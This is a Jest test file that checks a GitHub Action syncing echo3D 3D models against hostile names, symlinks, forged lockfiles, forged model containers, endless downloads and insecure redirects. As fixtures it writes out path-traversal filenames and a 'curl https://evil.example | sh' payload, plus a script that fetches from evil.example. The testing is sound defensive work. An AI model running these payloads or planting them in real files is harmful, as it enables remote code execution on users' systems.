// Attacks by those who can hand the action hostile data: whoever can upload or rename a model in
// the echo3D collection, whoever can open a pull request (the workspace and the lockfile), and
// anything between the runner and echo3D. Each test tries the attack on the engine in-process and
// shows that it fails safely. That no workflow command from outside starts a line of the job log
// is checked on the real step, in __tests__/e2e/.
import { afterEach, describe, expect, it } from '@jest/globals'
import { mkdir, readFile, readdir, rm, symlink, writeFile } from 'node:fs/promises'
import path from 'node:path'
import type { ServerResponse } from 'node:http'
import {
  sendForever,
  startScriptedServer,
  type ScriptedServer
} from '../../doubles/scripted-server.ts'
import { makeSample } from '../../emulator/samples.ts'
import { startEmulator, type Emulator } from '../../emulator/server.ts'
import { TestClock } from '../../harness/clock.ts'
import { checkWith, pruneWith, pullWith } from '../../harness/engine.ts'
import { trustCertificate } from '../../harness/in-process.ts'
import {
  LOCKFILE,
  listAssets,
  listFiles,
  selfSignedCertificate,
  sha256,
  sharedEmulator
} from '../support.ts'
import { scratchFolder } from '../../harness/runner.ts'
import { NO_CACHE } from '../../src/engine/index.js'
import type { Content } from '../../src/model.js'

const emulator = sharedEmulator({
  entries: [
    { id: 'plain', filename: 'model.glb', derived: [] },
    { id: 'lamp', filename: 'lamp.obj', material: 'lamp.mtl', textures: ['tex.png'], derived: [] },
    { id: 'lockfile-named', filename: 'scene.obj', textures: ['echo3d.lock.json'], derived: [] },
    { id: 'scene', filename: 'scene.glb', derived: ['gltf', 'usdz'] }
  ]
})

const readWorkspace = (workspace: string, file: string) => readFile(path.join(workspace, file))

describe('untrusted names from echo3D', () => {
  let names: Emulator | undefined
  afterEach(() => names?.close())

  it('are neutralised: nothing is written outside path', async () => {
    names = await startEmulator({
      entries: [
        {
          id: 'climber',
          filename: '../../../../escape.obj',
          textures: ['../../../../tex.png'],
          material: '/etc/evil.mtl'
        },
        { id: 'absolute', filename: '/etc/passwd.glb', derived: [] },
        { id: 'weird', filename: 'con.fbx', derived: ['glb'] },
        { id: 'unicode', filename: 'Lámpara 台灯 <v2>.glb', derived: [] }
      ]
    })
    const run = await pullWith(names, {
      inputs: {
        entries: 'climber: original\nabsolute\nweird: glb\nunicode',
        'file-name': '{name}.{ext}'
      }
    })
    expect(run.report.failures).toEqual([])
    expect(await listAssets(run.workspace)).toEqual(
      [
        'assets/echo3d/escape.obj',
        'assets/echo3d/evil.mtl',
        'assets/echo3d/tex.png',
        'assets/echo3d/passwd.glb',
        'assets/echo3d/_con.glb',
        'assets/echo3d/Lámpara 台灯 _v2_.glb'
      ].sort()
    )
    // The workspace's folder holds the workspace only: nothing climbed out beside it.
    expect(await readdir(path.dirname(run.workspace))).toEqual(['workspace'])
  })
})

/** A workspace, and a folder beside it that a link in the workspace leads to. */
async function workspaceWithOutside(): Promise<{ workspace: string; outside: string }> {
  const root = await scratchFolder('hostile-workspace')
  const workspace = path.join(root, 'workspace')
  const outside = path.join(root, 'outside')
  await mkdir(workspace)
  await mkdir(outside)
  await writeFile(path.join(outside, 'model.glb'), 'precious')
  return { workspace, outside }
}

function lockfileOf(...records: object[]): string {
  return JSON.stringify({ version: 1, files: records })
}

/** A lockfile that records `bytes` at `filePath`, in `format`, as a file fetched by storage ID. */
function lockfileRecording(filePath: string, format: string, bytes: Buffer): string {
  const record = { path: filePath, entry: null, format, storageId: 's1' }
  return lockfileOf({ ...record, bytes: bytes.length, sha256: sha256(bytes) })
}

/** A GLB header that declares the length of what follows it: a signature, not a container. */
function glbHeaderBefore(body: Buffer): Buffer {
  const header = Buffer.alloc(12)
  header.write('glTF', 0, 'latin1')
  header.writeUInt32LE(2, 4)
  header.writeUInt32LE(12 + body.length, 8)
  return Buffer.concat([header, body])
}

describe('symbolic links in the workspace', () => {
  it('are not followed out of it when the destination folder is one', async () => {
    const { workspace, outside } = await workspaceWithOutside()
    await mkdir(path.join(workspace, 'assets'))
    await symlink(outside, path.join(workspace, 'assets/echo3d'))
    await expect(pullWith(emulator(), { inputs: { entries: 'plain' }, workspace })).rejects.toThrow(
      /'assets\/echo3d' is a symbolic link or junction/
    )
    expect(await readdir(outside)).toEqual(['model.glb'])
    expect(await readFile(path.join(outside, 'model.glb'), 'utf8')).toBe('precious')
  })

  it('are not followed out of it through a sub-folder that the file-name template makes', async () => {
    const { workspace, outside } = await workspaceWithOutside()
    await mkdir(path.join(workspace, 'assets/echo3d'), { recursive: true })
    await symlink(outside, path.join(workspace, 'assets/echo3d/plain'))
    const run = await pullWith(emulator(), {
      inputs: { entries: 'plain', 'file-name': '{entry}/{name}.{ext}' },
      workspace
    })
    expect(run.report.failures[0].message).toMatch(
      /'assets\/echo3d\/plain' is a symbolic link or junction/
    )
    expect(await readFile(path.join(outside, 'model.glb'), 'utf8')).toBe('precious')
  })

  it('never let prune delete outside the workspace', async () => {
    const { workspace, outside } = await workspaceWithOutside()
    await mkdir(path.join(workspace, 'assets/echo3d'), { recursive: true })
    await symlink(outside, path.join(workspace, 'assets/echo3d/sub'))
    const victim = Buffer.from('precious')
    const lockfile = lockfileRecording('assets/echo3d/sub/model.glb', 'glb', victim)
    await writeFile(path.join(workspace, LOCKFILE), lockfile)
    const run = await pullWith(emulator(), {
      inputs: { entries: 'plain', prune: 'true' },
      workspace
    })
    expect(run.log()).toMatch(
      /Not pruning assets\/echo3d\/sub\/model.glb: 'assets\/echo3d\/sub' is a symbolic link/
    )
    expect(run.report.pruned).toEqual([])
    expect(await readFile(path.join(outside, 'model.glb'), 'utf8')).toBe('precious')
  })

  // A hand-kept file beside the models, and a lockfile from a pull request that records it.
  const HAND_KEPT = Buffer.from('# Our models\n\nKept by hand, not by the action.\n')
  const HEADER_THEN_SCRIPT = glbHeaderBefore(Buffer.from('#!/bin/sh\necho planted; exit 0\n'))
  it.each([
    ['README.glb', 'glb', HAND_KEPT, /it is not a GLB file, as the lockfile records/],
    ['README.md', 'original', HAND_KEPT, /the action cannot tell from its bytes that it wrote it/],
    ['notes.txt', 'txt', HAND_KEPT, /the action cannot tell from its bytes that it wrote it/],
    ['fake.glb', 'glb', HEADER_THEN_SCRIPT, /it is not a GLB file, as the lockfile records/]
  ])(
    'never let prune delete %s, which the lockfile records as %s with its hash',
    async (name, format, bytes, reason) => {
      const workspace = await scratchFolder('prune-forged')
      const filePath = `assets/echo3d/${name}`
      await mkdir(path.join(workspace, 'assets/echo3d'), { recursive: true })
      await writeFile(path.join(workspace, filePath), bytes)
      await writeFile(path.join(workspace, LOCKFILE), lockfileRecording(filePath, format, bytes))
      const run = await pullWith(emulator(), {
        inputs: { entries: 'plain', prune: 'true' },
        workspace
      })
      expect(run.log()).toMatch(new RegExp(`Not pruning ${filePath}: ${reason.source}`))
      expect(run.report.pruned).toEqual([])
      expect(await readFile(path.join(workspace, filePath))).toEqual(bytes)
    }
  )

  it('judge a file prune cannot check alike on a dry run, and forget it once it is gone', async () => {
    const workspace = await scratchFolder('prune-uncheckable')
    const filePath = 'assets/echo3d/notes.txt'
    await mkdir(path.join(workspace, 'assets/echo3d'), { recursive: true })
    await writeFile(path.join(workspace, filePath), HAND_KEPT)
    await writeFile(path.join(workspace, LOCKFILE), lockfileRecording(filePath, 'txt', HAND_KEPT))
    const settings = { inputs: { entries: 'plain' }, workspace }

    const dryRun = await pruneWith(emulator(), { ...settings, dryRun: true })
    expect(dryRun.report.kept).toEqual([
      { path: filePath, reason: expect.stringMatching(/cannot tell from its bytes/) }
    ])
    const kept = await pruneWith(emulator(), settings)
    expect(kept.report.kept).toEqual(dryRun.report.kept)

    await rm(path.join(workspace, filePath))
    const forgotten = await pruneWith(emulator(), settings)
    expect(forgotten.report.alreadyGone).toEqual([filePath])
    expect(forgotten.report.pruned).toEqual([])
    expect(await readFile(path.join(workspace, LOCKFILE), 'utf8')).not.toContain('notes.txt')
  })

  it('to a device are never read: a model linked to /dev/zero is replaced, in bounded time', async () => {
    const first = await pullWith(emulator(), { inputs: { entries: 'plain' } })
    const [file] = first.report.files
    const modelPath = path.join(first.workspace, file.path)
    await rm(modelPath)
    await symlink('/dev/zero', modelPath)
    const started = Date.now()
    const check = await checkWith(emulator(), {
      inputs: { entries: 'plain' },
      workspace: first.workspace
    })
    expect(check.report.stale).toEqual([
      expect.objectContaining({
        path: file.path,
        reason: expect.stringMatching(/^the file on disk cannot be checked: .*symbolic link/)
      })
    ])
    const again = await pullWith(emulator(), {
      inputs: { entries: 'plain' },
      workspace: first.workspace
    })
    expect(again.report.failures).toEqual([])
    expect(Date.now() - started).toBeLessThan(30_000)
    expect(sha256(await readWorkspace(again.workspace, file.path))).toBe(file.sha256)
  })
})

describe('a forged file that a pull request slips in', () => {
  it('is not unchanged when its bytes are not the format, even with a lockfile that matches', async () => {
    const first = await pullWith(emulator(), { inputs: { entries: 'plain' } })
    const [file] = first.report.files
    const script = Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n')
    await writeFile(path.join(first.workspace, file.path), script)
    const lock = lockfileOf({
      ...file,
      source: undefined,
      durationMs: undefined,
      bytes: script.length,
      sha256: sha256(script)
    })
    await writeFile(path.join(first.workspace, LOCKFILE), lock)

    const check = await checkWith(emulator(), {
      inputs: { entries: 'plain' },
      workspace: first.workspace
    })
    expect(check.report.stale.map(asset => asset.reason)).toEqual([
      expect.stringMatching(/^the file on disk fails its format check/)
    ])
    const again = await pullWith(emulator(), {
      inputs: { entries: 'plain' },
      workspace: first.workspace
    })
    expect(again.report.files[0].source).toBe('download')
    expect(sha256(await readWorkspace(again.workspace, file.path))).toBe(file.sha256)
  })
})

describe('a forged material and texture, with lockfile records to match', () => {
  it('are not unchanged: a script is neither a material nor a PNG', async () => {
    const first = await pullWith(emulator(), { inputs: { entries: 'lamp: original' } })
    const script = Buffer.from('<script>fetch("https://evil.example")</script>\n')
    const records = first.report.files.map(file => {
      const record = { ...file, source: undefined, durationMs: undefined }
      if (file.format === 'obj') return record
      return { ...record, bytes: script.length, sha256: sha256(script) }
    })
    for (const file of records.filter(record => record.format !== 'obj')) {
      await writeFile(path.join(first.workspace, file.path), script)
    }
    await writeFile(path.join(first.workspace, LOCKFILE), lockfileOf(...records))
    const check = await checkWith(emulator(), {
      inputs: { entries: 'lamp: original' },
      workspace: first.workspace
    })
    const reasons = Object.fromEntries(check.report.stale.map(asset => [asset.path, asset.reason]))
    expect(reasons).toEqual({
      'assets/echo3d/lamp.mtl': expect.stringMatching(/^the file on disk fails its format check/),
      'assets/echo3d/tex.png': expect.stringMatching(/^the file on disk fails its format check/)
    })
  })
})

describe('a forged model that is a valid GLB, with a lockfile record to match', () => {
  async function forged(): Promise<{ workspace: string; file: { path: string; sha256: string } }> {
    const first = await pullWith(emulator(), { inputs: { entries: 'plain' } })
    const [file] = first.report.files
    const model = makeSample('glb', 'not the model echo3D serves')
    await writeFile(path.join(first.workspace, file.path), model)
    const record = {
      ...file,
      source: undefined,
      durationMs: undefined,
      bytes: model.length,
      sha256: sha256(model)
    }
    await writeFile(path.join(first.workspace, LOCKFILE), lockfileOf(record))
    return { workspace: first.workspace, file }
  }

  it('passes a check by the lockfile, and fails one with verify: content', async () => {
    const { workspace } = await forged()
    const byLockfile = await checkWith(emulator(), { inputs: { entries: 'plain' }, workspace })
    expect(byLockfile.report.stale).toEqual([])
    const byContent = await checkWith(emulator(), {
      inputs: { entries: 'plain', verify: 'content' },
      workspace
    })
    expect(byContent.report.stale.map(asset => asset.reason)).toEqual([
      'the file on disk is not what echo3D serves for its storage ID'
    ])
    expect(await listFiles(workspace)).toEqual([LOCKFILE, 'assets/echo3d/model.glb'].sort())
  })

  it('is replaced by a pull with verify: content, which trusts neither lockfile nor cache', async () => {
    const { workspace, file } = await forged()
    const lookedUp: string[] = []
    const cache = {
      ...NO_CACHE,
      find: (content: Content) => Promise.resolve(void lookedUp.push(content.sha256)),
      vouchFor: (storageId: string) => Promise.resolve(void lookedUp.push(storageId))
    }
    const run = await pullWith(emulator(), {
      inputs: { entries: 'plain', verify: 'content' },
      workspace,
      cache
    })
    expect(run.report.files[0].source).toBe('download')
    expect(lookedUp).toEqual([])
    expect(sha256(await readWorkspace(workspace, file.path))).toBe(file.sha256)
  })
})

describe('a forged container behind the right signature, with a lockfile record to match', () => {
  it.each([
    ['glb', 'a GLB header and length in front of a script', forgedGlb],
    [
      'gltf',
      'an opening like glTF JSON, then a script',
      () => Buffer.from(`{"asset": {}}\n${SCRIPT}`)
    ],
    ['usdz', 'a zip signature in front of a script', () => Buffer.from(`PK\x03\x04${SCRIPT}`)]
  ])('is not unchanged in a %s: %s', async (format, _forgery, forge) => {
    const entries = `scene: ${format}`
    const first = await pullWith(emulator(), { inputs: { entries } })
    const [file] = first.report.files
    const forged = forge()
    await writeFile(path.join(first.workspace, file.path), forged)
    const record = { ...file, source: undefined, durationMs: undefined }
    const lock = lockfileOf({ ...record, bytes: forged.length, sha256: sha256(forged) })
    await writeFile(path.join(first.workspace, LOCKFILE), lock)

    const check = await checkWith(emulator(), { inputs: { entries }, workspace: first.workspace })
    expect(check.report.stale.map(asset => asset.reason)).toEqual([
      expect.stringMatching(/^the file on disk fails its structure check: it is not a/)
    ])
    const again = await pullWith(emulator(), { inputs: { entries }, workspace: first.workspace })
    expect(again.report.files[0].source).toBe('download')
    expect(again.log()).toMatch(/fails its structure check: .*; pulling it again/)
    expect(sha256(await readWorkspace(again.workspace, file.path))).toBe(file.sha256)
  })
})

describe('a model whose reading runs past its timeout', () => {
  it.each([
    ['GLB', 'plain'],
    ['USDZ', 'scene: usdz']
  ])(
    'fails as a %s alone, in words that say so, and leaves no partial file',
    async (_format, entries) => {
      const clock = new TestClock()
      // Once the body is in, the time jumps past the asset's deadline, as a hostile file's reading would take it.
      const onBytes = (_asset: unknown, bytesSoFar: number, totalBytes?: number) => {
        if (bytesSoFar === totalBytes) clock.jump(31_000)
      }
      const run = await pullWith(emulator(), {
        inputs: { entries, timeout: '30s' },
        clock,
        onBytes
      })
      expect(run.report.failures.map(failure => failure.message)).toEqual([
        'reading what the model holds took it past its `timeout` of 30s. Raise `timeout` if the model really is that large'
      ])
      expect(await listFiles(run.workspace)).toEqual([])
    }
  )
})

describe("a name from echo3D that is the lockfile's", () => {
  it('fails that asset only, and the lockfile stays a lockfile', async () => {
    const run = await pullWith(emulator(), {
      inputs: { entries: 'plain\nlockfile-named: original' }
    })
    expect(run.report.failures).toEqual([
      {
        label: expect.stringContaining("companion 'echo3d.lock.json'"),
        message: expect.stringMatching(/its path, 'echo3d.lock.json', is the lockfile's/)
      }
    ])
    const lock = JSON.parse(await readWorkspace(run.workspace, LOCKFILE).then(String)) as {
      files: { path: string }[]
    }
    expect(lock.files.map(file => file.path)).toEqual([
      'assets/echo3d/model.glb',
      'assets/echo3d/scene.obj'
    ])
  })
})

describe('a lockfile from a pull request', () => {
  it('is ignored when it is larger than any the action writes, without reading it whole', async () => {
    const workspace = await scratchFolder('hostile-large-lockfile')
    await mkdir(path.join(workspace, 'assets/echo3d'), { recursive: true })
    await writeFile(path.join(workspace, LOCKFILE), Buffer.alloc(17 * 1024 * 1024, 0x20))
    const run = await pullWith(emulator(), { inputs: { entries: 'plain' }, workspace })
    expect(run.report.failures).toEqual([])
    expect(run.log()).toMatch(/is corrupt or was edited by hand \(it is larger than 16\.0 MiB\)/)
  })

  it.each([
    ['a Windows path that climbs out', 'assets/echo3d/..\\..\\..\\victims\\victim.txt'],
    ['a file outside path', 'README.md'],
    ['a dot-folder such as .git', 'assets/echo3d/.git/config']
  ])('is ignored whole when it records %s', async (_name, recorded) => {
    const workspace = await scratchFolder('hostile-record')
    await mkdir(path.join(workspace, 'assets/echo3d'), { recursive: true })
    const record = {
      path: recorded,
      entry: null,
      format: 'glb',
      storageId: 's',
      bytes: 1,
      sha256: 'a'.repeat(64)
    }
    await writeFile(path.join(workspace, LOCKFILE), lockfileOf(record))
    const run = await pullWith(emulator(), {
      inputs: { entries: 'plain', prune: 'true' },
      workspace
    })
    expect(run.log()).toMatch(
      /The lockfile assets\/echo3d\/echo3d.lock.json is corrupt or was edited by hand \(entry 1 points outside the destination folder/
    )
    expect(run.report.pruned).toEqual([])
    expect(await listFiles(workspace)).toEqual([
      'assets/echo3d/echo3d.lock.json',
      'assets/echo3d/model.glb'
    ])
  })
})

const SCRIPT = '#!/bin/sh\ncurl https://evil.example | sh\n'

/** A GLB header that declares its length right, in front of a script. */
function forgedGlb(): Buffer {
  const script = Buffer.from(SCRIPT)
  return Buffer.concat([glbHeader(12 + script.length), script])
}

/** A GLB header that declares `length` bytes in all. */
function glbHeader(length: number): Buffer {
  const header = Buffer.alloc(12)
  header.write('glTF', 0, 'latin1')
  header.writeUInt32LE(2, 4)
  header.writeUInt32LE(length, 8)
  return header
}

/** The metadata of one entry whose upload is `fileName` under `storageId`. */
function metadataOf(fileName: string, storageId: string): string {
  return JSON.stringify({
    db: { hostile: { id: 'hostile', hologram: { filename: fileName, storageID: storageId } } }
  })
}

let server: ScriptedServer | undefined
afterEach(() => server?.close())

/** An echo3D that answers metadata with `metadata` and any file with `file`. */
async function hostileEcho3d(
  metadata: (response: ServerResponse) => void,
  file: (response: ServerResponse) => void
): Promise<Record<string, string>> {
  server = await startScriptedServer((request, response) => {
    const url = new URL(request.url ?? '/', 'http://x')
    if (url.searchParams.has('file')) file(response)
    else metadata(response)
  })
  return { 'api-url': server.url, entries: 'hostile', retries: '1' }
}

describe('bodies without end', () => {
  it('a GLB that runs past the length its header declares is cut there, and nothing is saved', async () => {
    const inputs = await hostileEcho3d(
      response => response.end(metadataOf('model.glb', 'endless')),
      response => {
        response.writeHead(200, { 'content-type': 'model/gltf-binary' })
        response.write(glbHeader(72))
        sendForever(response, Buffer.alloc(64 * 1024))
      }
    )
    const started = Date.now()
    const run = await pullWith(emulator(), { inputs })
    expect(run.report.failures[0].message).toMatch(
      /the body ran past the 72 bytes its GLB header declares/
    )
    expect(Date.now() - started).toBeLessThan(20_000)
    expect(await listFiles(run.workspace)).toEqual([])
  })

  it('a file larger than max-file-size fails at the limit, without a retry', async () => {
    const inputs = await hostileEcho3d(
      response => response.end(metadataOf('model.bin', 'large')),
      response => {
        response.writeHead(200, { 'content-type': 'application/octet-stream' })
        sendForever(response, Buffer.alloc(64 * 1024, 1))
      }
    )
    const run = await pullWith(emulator(), {
      inputs: { ...inputs, formats: 'original', 'max-file-size': '1MiB' }
    })
    expect(run.report.failures[0].message).toMatch(
      /the file is larger than `max-file-size` \(1\.0 MiB\)/
    )
    expect(server?.requests.filter(request => request.includes('file='))).toHaveLength(1)
    expect(run.clock.waits).toEqual([])
    expect(await listFiles(run.workspace)).toEqual([])
  })

  it('a declared Content-Length over max-file-size fails before a byte is written', async () => {
    const inputs = await hostileEcho3d(
      response => response.end(metadataOf('model.glb', 'declared')),
      response => {
        response.writeHead(200, { 'content-length': String(8 * 1024 * 1024 * 1024) })
        response.write(glbHeader(1000))
      }
    )
    const run = await pullWith(emulator(), { inputs: { ...inputs, 'max-file-size': '1MiB' } })
    expect(run.report.failures[0].message).toMatch(/the file is larger than `max-file-size`/)
    expect(await listFiles(run.workspace)).toEqual([])
  })

  it('a GLB whose header declares more than max-file-size is refused at its 12th byte, without a Content-Length', async () => {
    const inputs = await hostileEcho3d(
      response => response.end(metadataOf('model.glb', 'declared-large')),
      response => {
        response.writeHead(200, { 'content-type': 'model/gltf-binary' })
        response.write(glbHeader(3 * 1024 * 1024 * 1024))
        sendForever(response, Buffer.alloc(64 * 1024))
      }
    )
    const received: number[] = []
    const run = await pullWith(emulator(), {
      inputs: { ...inputs, 'max-file-size': '1MiB' },
      onBytes: (_asset, bytesSoFar) => received.push(bytesSoFar)
    })
    expect(run.report.failures).toEqual([
      {
        label: 'entry hostile (glb)',
        message:
          'its GLB header declares 3.0 GiB, more than `max-file-size` (1.0 MiB): refused as soon as its 12-byte header arrived. Raise `max-file-size` if the model really is that large'
      }
    ])
    expect(received).toEqual([])
    expect(server?.requests.filter(request => request.includes('file='))).toHaveLength(1)
    expect(await listFiles(run.workspace)).toEqual([])
  })

  it('a metadata answer that never ends is refused past its limit', async () => {
    const inputs = await hostileEcho3d(
      response => {
        response.writeHead(200, { 'content-type': 'application/json' })
        response.write('{"db":{"a":"')
        sendForever(response, Buffer.alloc(64 * 1024, 0x61))
      },
      response => response.end()
    )
    await expect(pullWith(emulator(), { inputs })).rejects.toThrow(
      /is larger than 32\.0 MiB, more than echo3D sends for it/
    )
  })
})

describe('a redirect', () => {
  it('from https to plain http is never followed: the download is not sent in clear text', async () => {
    const tls = await selfSignedCertificate()
    const distrust = trustCertificate(tls.cert)
    const plain = await startScriptedServer((_request, response) => response.end('model'))
    try {
      server = await startScriptedServer((request, response) => {
        const url = new URL(request.url ?? '/', 'https://x')
        if (!url.searchParams.has('file')) return response.end(metadataOf('model.glb', 'm'))
        response.writeHead(302, { location: `${plain.url}/files/m` })
        response.end()
      }, tls)
      const run = await pullWith(emulator(), {
        inputs: { 'api-url': server.url, entries: 'hostile' }
      })
      expect(run.report.failures[0].message).toMatch(
        /redirected the download of storage ID m from https to http/
      )
      expect(plain.requests).toEqual([])
    } finally {
      distrust()
      await plain.close()
    }
  })
})
